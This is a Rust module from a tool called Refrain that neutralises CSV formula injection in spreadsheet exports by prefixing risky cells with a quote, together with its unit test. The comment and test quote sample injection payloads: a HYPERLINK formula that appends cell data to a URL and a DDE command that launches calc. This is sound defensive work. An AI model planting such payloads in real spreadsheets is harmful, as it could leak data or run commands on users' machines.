//! Cells of the CSV files Refrain writes (the phrases and timeline exports,
//! `refrain timeline --csv`), made safe to open in a spreadsheet.
//!
//! A spreadsheet reads a cell that begins with `=`, `+`, `-` or `@` as a
//! formula, and some also after a leading tab or carriage return: a title
//! such as `=HYPERLINK("http://…"&A1,"click")` in a transcript or an events
//! file would become a live link, or worse, in the analyst's spreadsheet.
//! As OWASP recommends for CSV injection, such a cell is written with a `'`
//! before it, which spreadsheets read as "this is text" and do not show.
//! Every cell whose text can come from a transcript, an events file, a file
//! name or the user goes through [`spreadsheet_safe`]; cells Refrain makes
//! itself (lanes, kinds, dates, counts, byte offsets) are written as they
//! are. JSON exports are never changed.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula when
/// they begin it.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` as a CSV export writes it: with `'` before it when it begins with
/// `=`, `+`, `-`, `@`, a tab or a carriage return, else unchanged.
pub fn spreadsheet_safe(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) { Cow::Owned(format!("'{cell}")) } else { Cow::Borrowed(cell) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_that_begin_a_formula_are_prefixed_and_others_kept() {
        for (given, written) in [
            (r#"=HYPERLINK("http://x"&A1,"click")"#, r#"'=HYPERLINK("http://x"&A1,"click")"#),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
        ] {
            assert_eq!(spreadsheet_safe(given), written);
        }
        for kept in ["", "Attack on Pearl Harbor", "a = b", "1941-12-07", "'quoted'", "sub/b.txt@0-12"] {
            assert!(matches!(spreadsheet_safe(kept), Cow::Borrowed(k) if k == kept), "{kept:?}");
        }
    }
}
